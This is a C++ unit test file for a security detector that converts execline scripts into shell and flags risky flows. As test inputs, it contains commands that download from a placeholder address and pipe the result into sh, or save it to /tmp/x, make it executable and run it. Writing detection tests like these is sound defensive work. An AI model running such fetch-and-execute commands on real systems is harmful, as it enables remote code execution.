#include "detect/shell/execline.hpp"

#include <gtest/gtest.h>

#include "detect/shell/shell_facts.hpp"

namespace hullcheck::detect {
namespace {

std::string shell(std::string_view text) { return execline_as_shell(text).shell; }

TEST(Execline, IsKnownByItsFirstLine) {
  EXPECT_TRUE(is_execline("#!/command/execlineb -P\n"));
  EXPECT_TRUE(is_execline("#!/usr/bin/env execlineb\n"));
  EXPECT_FALSE(is_execline("#!/bin/sh\n# execlineb\n"));
}

TEST(Execline, ProgramsThatRunTheRest) {
  EXPECT_EQ(
      shell("#!/command/execlineb -P\nwith-contenv\ns6-setuidgid app\ncd /srv\nfdmove -c 2 1\n./app --port 80\n"),
      "\n\n\ncd /srv\n\n./app --port 80");
  EXPECT_EQ(shell("cd /srv\nfdmove -c 2 1\nexec -c\n./app \"a b\" 'x'\n"), "cd /srv\n\n\n./app 'a b' ''\\''x'\\'''");
}

TEST(Execline, BlocksAreCommandsOfTheirOwn) {
  EXPECT_EQ(shell("foreground { sleep 5 }\nbackground { /opt/x }\nif -n { test -f /y } ./app\n"),
            "sleep 5\n/opt/x &\ntest -f /y; ./app");
  EXPECT_EQ(shell("ifelse { a } { b c } d\n"), "a; b c; d");
}

TEST(Execline, PipelinesAndRedirections) {
  EXPECT_EQ(shell("pipeline { curl -s http://192.0.2.1/x } sh\n"), "{ curl -s http://192.0.2.1/x; } | { sh; }");
  EXPECT_EQ(shell("redirfd -w 1 /tmp/x\ncurl http://192.0.2.1/x\n"), "\ncurl http://192.0.2.1/x >/tmp/x");
}

TEST(Execline, Variables) {
  EXPECT_EQ(
      shell(
          "define url http://192.0.2.1/x\nimportas -D no HOST HOST\nbacktick -n out { curl ${url} }\nsh -c ${out}\n"),
      "url=http://192.0.2.1/x\nHOST=\"${HOST}\"\nout=$(curl ${url})\nsh -c ${out}");
}

TEST(Execline, IsBounded) {
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += "foreground { ";
  EXPECT_FALSE(execline_as_shell(deep + "x").complete);
  EXPECT_FALSE(execline_as_shell(std::string(300U << 10, 'x')).complete);
  std::string wide;
  for (int i = 0; i < 20'000; ++i) wide += "} { ";
  EXPECT_FALSE(execline_as_shell(wide).complete);
  EXPECT_TRUE(execline_as_shell("").complete);
  EXPECT_TRUE(execline_as_shell("pipeline { a").complete);
}

TEST(Execline, FlowsAreSeen) {
  const ShellFacts facts =
      facts_of_text(shell("#!/command/execlineb -P\nforeground { redirfd -w 1 /tmp/x curl -s http://192.0.2.1/x }\n"
                          "foreground { chmod +x /tmp/x }\n/tmp/x\n"));
  const auto fetched = std::find_if(facts.flows.begin(), facts.flows.end(),
                                    [](const ShellFlow& flow) { return flow.kind == FlowKind::fetch_to_file_run; });
  ASSERT_NE(fetched, facts.flows.end());
  EXPECT_EQ(fetched->path, "/tmp/x");
}

}  // namespace
}  // namespace hullcheck::detect
